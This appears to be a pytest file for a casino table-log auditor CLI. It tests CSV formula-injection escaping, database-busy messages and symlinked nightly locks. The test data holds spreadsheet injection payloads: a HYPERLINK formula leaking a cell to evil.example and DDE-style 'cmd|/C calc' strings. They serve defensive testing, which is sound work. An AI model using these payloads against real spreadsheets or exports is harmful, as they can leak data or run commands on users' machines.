"""Hostile text in the exports, the database-busy message, and the nightly lock through a
symlink (issue 20, part 4).

Everything runs the real command (`python -m auditor.cli.app`) in a process of its own, so
the exit codes, stderr and the CSV bytes are what an operator gets. A shoe id with a
character outside the id alphabet makes its line malformed (issue 28), and the
log.malformed finding keeps the id as sent, so spreadsheet formulas still reach the
exports; a table or pit id may start with `-`, and the table pass's messages start with the
table id.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pypdf
import pytest
from helpers.events import contract_lines, line
from helpers.processes import holder
from helpers.tablelog import DECK, Log, deal_rounds

from auditor.audit.run import audit
from auditor.config import PropertyConfig
from auditor.ingest.run import ingest
from auditor.jobs.lock import LockInfo, lock_holder, lock_path
from auditor.store import db, runs
from auditor.store.findings import csv_cell, csv_row

# --------------------------------------------------------------------------------------------
# running the command
# --------------------------------------------------------------------------------------------


@dataclass
class Run:
    code: int
    out: str
    err: str


def bacc_audit(cwd: Path, *args: str | Path) -> Run:
    """`bacc-audit ARGS` in a fresh process; output decoded by hand, since text mode would
    turn a carriage return inside a CSV cell into a newline."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("BACC_AUDIT_")}
    p = subprocess.run(
        [sys.executable, "-m", "auditor.cli.app", *map(str, args)],
        cwd=cwd,
        env=env,
        capture_output=True,
        timeout=300,
    )
    return Run(p.returncode, p.stdout.decode(), p.stderr.decode())


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --------------------------------------------------------------------------------------------
# the rule itself
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-A1", "'-A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # already quoted: one more, so dropping one gives it back
        ("MB-07", "MB-07"),
        (" =1+1", " =1+1"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_csv_cell_quotes_text_that_starts_a_formula(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_json_cells_keep_numbers_and_quote_nothing_else_a_spreadsheet_would_run() -> None:
    row = csv_row({"round": -3, "seq": 7, "expected": -1, "observed": "-1", "message": "-x"})
    assert row == {"round": -3, "seq": 7, "expected": "-1", "observed": '"-1"', "message": "'-x"}
    row = csv_row({"expected": 2.5, "observed": True})
    assert row == {"expected": "2.5", "observed": "true"}
    row = csv_row({"expected": None, "observed": {"burn": None}})
    assert row == {"expected": "null", "observed": '{"burn": null}'}


# --------------------------------------------------------------------------------------------
# end to end: logs with formulas in them, through ingest, audit, findings and report
# --------------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
# Each shoe id as sent, and the CSV cell it must become.
SHOES = {
    HYPERLINK: "'" + HYPERLINK,
    '+cmd|" /C calc"!A0': '\'+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0': '\'@SUM(1+1)*cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0': '\'-2+3+cmd|" /C calc"!A0',
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "'=1+1": "''=1+1",
    "S\r=1+1": "S\r=1+1",  # not at the start: no quote, but the cell must be quoted
    "S-7": "S-7",
}
NO_BURN = (
    ": no burn was recorded before dealing began; the house burns cards at the start of every "
    "shoe."
)
MALFORMED = {  # round -3 is not allowed: a log.malformed finding that keeps the -3
    "v": 1, "ts": "2026-11-28T23:30:00-05:00", "type": "wager", "table": "-A1", "seq": 999,
    "shoe": HYPERLINK, "round": -3, "seat": 3, "bet": "banker", "amount": 100,
}


@dataclass
class Night:
    dir: Path
    csv: str
    jsonl: list[dict]
    pdf_csv: str
    pdf_jsonl: list[dict]


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Night:
    """Table `-A1` in pit `-P3` deals one round from each hostile shoe without a burn (a
    shoe.burn finding per shoe), and a second file holds the malformed wager."""
    d = tmp_path_factory.mktemp("hostile")
    log = Log()
    log.open("-A1", "-P3", "22:00")
    rounds = deal_rounds(DECK, 0, len(SHOES))
    for i, shoe in enumerate(SHOES):
        log.shoe_start("-A1", f"22:{10 + 5 * i:02d}", shoe)
        log.round("-A1", shoe, 1, rounds[i])
        log.shoe_end("-A1", shoe)
    log.write(d / "logs" / "night.jsonl")
    (d / "logs" / "bad.jsonl").write_text(json.dumps(MALFORMED) + "\n")
    # Loaded and audited here (two processes less); the exports below are the commands'.
    con = db.connect(d / db.DEFAULT_DB)
    try:
        loaded = ingest(con, [d / "logs"], runs.start(con, "ingest", {}))
        assert loaded.exit_code() == 1 and loaded.quarantined > 0  # the malformed wager
        assert audit(con, runs.start(con, "audit", {}), PropertyConfig()).findings_new > 0
    finally:
        con.close()
    as_csv = bacc_audit(d, "findings", "--format", "csv")
    as_jsonl = bacc_audit(d, "findings", "--format", "jsonl")
    report = bacc_audit(d, "report", "--shift", "2026-11-28/grave", "--out", "night.pdf")
    assert (as_csv.code, as_jsonl.code, report.code) == (0, 0, 0), (as_csv, as_jsonl, report)
    files = pypdf.PdfReader(d / "night.pdf").attachments
    return Night(
        d,
        as_csv.out,
        [json.loads(x) for x in as_jsonl.out.splitlines()],
        files["findings.csv"][0].decode(),
        [json.loads(x) for x in files["findings.jsonl"][0].decode().splitlines()],
    )


def by_fingerprint(rows: list[dict]) -> dict[str, dict]:
    return {r["fingerprint"]: r for r in rows}


@pytest.mark.slow
def test_the_findings_csv_quotes_every_formula_and_the_jsonl_keeps_the_text(night: Night) -> None:
    cells = by_fingerprint(csv_rows(night.csv))
    # The one shoe id in the id alphabet deals its round: a shoe.burn, as before.
    burns = [r for r in night.jsonl if r["code"] == "shoe.burn"]
    assert [r["shoe"] for r in burns] == ["S-7"]
    [rec] = burns
    assert (rec["table"], rec["pit"], rec["round"]) == ("-A1", "-P3", 1)
    assert rec["message"] == f"-A1 shoe S-7{NO_BURN}"
    row = cells[rec["fingerprint"]]
    assert (row["table"], row["pit"], row["shoe"], row["round"]) == ("'-A1", "'-P3", "S-7", "1")
    assert row["message"] == f"'-A1 shoe S-7{NO_BURN}"
    assert row["seq"] == str(rec["seq"]) and row["ts"] == rec["ts"]
    assert row["source"] == rec["source"] and row["source"].startswith("/")
    assert row["expected"] == '{"burn": {"burn": "card_value", "expose": 1, "ten_value_burns": 10}}'
    assert row["observed"] == '{"burn": null}'
    # Every other shoe's lines are malformed; each log.malformed keeps the id as sent, and
    # its CSV cell is quoted.
    malformed = [r for r in night.jsonl if r["code"] == "log.malformed" and r["seq"] != 999]
    assert {r["shoe"] for r in malformed} == set(SHOES) - {"S-7"}
    for rec in malformed:
        row = cells[rec["fingerprint"]]
        assert (row["table"], row["shoe"]) == ("'-A1", SHOES[rec["shoe"]])
        assert row["source"] == rec["source"] and row["source"].startswith("/")
    # What a spreadsheet reads: the hyperlink's cell, byte for byte.
    assert (",'-A1,,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\","
            in night.csv)


@pytest.mark.slow
def test_a_malformed_line_keeps_its_negative_round_as_a_number(night: Night) -> None:
    [rec] = [r for r in night.jsonl if r["code"] == "log.malformed" and r["seq"] == 999]
    assert (rec["table"], rec["shoe"], rec["round"], rec["seq"]) == ("-A1", HYPERLINK, -3, 999)
    row = by_fingerprint(csv_rows(night.csv))[rec["fingerprint"]]
    assert (row["table"], row["pit"], row["shoe"], row["round"], row["seq"]) == (
        "'-A1", "", "'" + HYPERLINK, "-3", "999"
    )
    assert row["message"] == (
        "Line 1 of bad.jsonl could not be read: shoe has U+003D at character 1: an id is 1-64 "
        "characters of A-Z a-z 0-9 . _ -, with no space, invisible or non-ASCII character; it "
        "is kept in quarantine"
    )
    assert row["expected"] == '"a line of event log v1"'
    assert json.loads(row["observed"])["line"] == json.dumps(MALFORMED)


@pytest.mark.slow
def test_the_pdfs_csv_has_the_same_cells_and_its_jsonl_the_same_text(night: Night) -> None:
    cli, pdf = by_fingerprint(csv_rows(night.csv)), by_fingerprint(csv_rows(night.pdf_csv))
    assert set(pdf) == set(cli) and len(pdf) == len(night.jsonl)
    assert pdf == cli
    assert pdf["shoe.burn|-A1|S-7|none"]["message"] == f"'-A1 shoe S-7{NO_BURN}"
    assert {r["shoe"] for r in pdf.values()} >= {"'" + HYPERLINK, "S-7"}
    # The PDF's records also carry their inclusion proof in the report's ledger head
    # (docs/findings-format.md, `ledger`); the rest is the same text.
    in_pdf = [{k: v for k, v in r.items() if k != "ledger"} for r in night.pdf_jsonl]
    assert all("ledger" in r for r in night.pdf_jsonl)
    assert by_fingerprint(in_pdf) == by_fingerprint(night.jsonl)
    shoes = {r["shoe"] for r in night.pdf_jsonl}
    assert shoes == {r["shoe"] for r in night.jsonl} and shoes - {None} == set(SHOES)


@pytest.mark.slow
def test_no_cell_of_either_csv_starts_a_formula_unless_it_is_a_number(night: Night) -> None:
    for text in (night.csv, night.pdf_csv):
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or re.fullmatch(r"-\d+", cell), cell


# --------------------------------------------------------------------------------------------
# database busy: what the message says about the other process
# --------------------------------------------------------------------------------------------

HOLD_DB = """
    import sys, time
    import duckdb
    con = duckdb.connect(sys.argv[1], read_only=sys.argv[2] == "read")
    con.execute("SELECT count(*) FROM findings").fetchall()
    print("ready", flush=True)
    time.sleep(120)
"""
TRY_AGAIN = "try again when it has finished"


@pytest.fixture
def audit_db(tmp_path: Path) -> tuple[Path, Path]:
    """An audit database with the contract's example in it, and a log to ingest."""
    path = tmp_path / "audit.duckdb"
    db.connect(path).close()
    log = tmp_path / "night.jsonl"
    log.write_text("".join(line(x) + "\n" for x in contract_lines()))
    return path, log


@pytest.mark.slow
def test_ingest_while_another_process_reads_says_it_is_reading(
    audit_db: tuple[Path, Path], tmp_path: Path
) -> None:
    path, log = audit_db
    with holder(HOLD_DB, path, "read") as pid:
        r = bacc_audit(tmp_path, "ingest", log, "--db", path)
        assert (r.code, r.out) == (4, ""), r
        assert r.err == (
            f"error: {path}: database busy: another process (PID {pid}) has it open for "
            f"reading, and nothing can write to it until that process closes it; {TRY_AGAIN}\n"
        )
        # Readers share the database: a second reader is not refused.
        assert bacc_audit(tmp_path, "findings", "--db", path).code == 0


@pytest.mark.slow
def test_reading_or_writing_while_another_process_writes_says_it_is_writing(
    audit_db: tuple[Path, Path], tmp_path: Path
) -> None:
    path, log = audit_db
    with holder(HOLD_DB, path, "write") as pid:
        for args in (["findings", "--format", "csv"], ["ingest", log]):
            r = bacc_audit(tmp_path, *args, "--db", path)
            assert (r.code, r.out) == (4, ""), r
            assert r.err == (
                f"error: {path}: database busy: another process (PID {pid}) has it open for "
                f"writing; {TRY_AGAIN}\n"
            )


def test_a_lock_error_without_the_holder_says_only_what_is_known() -> None:
    from auditor.store.db import busy_message

    text = 'IO Error: Could not set lock on file "a.duckdb": Resource temporarily unavailable'
    assert busy_message(Path("a.duckdb"), text, read_only=False) == (
        f"a.duckdb: database busy: another process has it open; {TRY_AGAIN}"
    )


# --------------------------------------------------------------------------------------------
# the nightly lock follows symlinks
# --------------------------------------------------------------------------------------------

HOLD_LOCK = """
    import fcntl, json, os, sys, time
    fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT, 0o644)
    fcntl.flock(fd, fcntl.LOCK_EX)
    os.pwrite(fd, json.dumps({"pid": os.getpid(), "run_id": 99, "since": "then"}).encode(), 0)
    print("ready", flush=True)
    time.sleep(120)
"""


@pytest.mark.slow
@pytest.mark.parametrize("linked", ["file", "folder"])
def test_nightly_through_a_symlink_finds_the_lock_of_the_real_database(
    tmp_path: Path, linked: str
) -> None:
    real = tmp_path.resolve() / "var" / "audit.duckdb"
    real.parent.mkdir()
    db.connect(real).close()
    if linked == "file":
        link = tmp_path / "audit-link.duckdb"
        link.symlink_to(real)
    else:
        (tmp_path / "var-link").symlink_to(real.parent, target_is_directory=True)
        link = tmp_path / "var-link" / "audit.duckdb"
    (tmp_path / "spool").mkdir()
    assert lock_path(link) == real.parent / "audit.duckdb.lock"
    with holder(HOLD_LOCK, real.parent / "audit.duckdb.lock") as pid:
        assert lock_holder(link) == LockInfo(pid, 99, "then")
        r = bacc_audit(tmp_path, "nightly", "--spool", "spool", "--db", link)
        assert (r.code, r.out) == (5, ""), r
        assert r.err == (
            f"error: {link}: another nightly run holds the lock: nightly run 99 (process {pid}, "
            f"since then); this run did nothing (lock file {real}.lock)\n"
        )
    assert not (tmp_path / "audit-link.duckdb.lock").exists()
    assert sorted(p.name for p in real.parent.iterdir()) == ["audit.duckdb", "audit.duckdb.lock"]
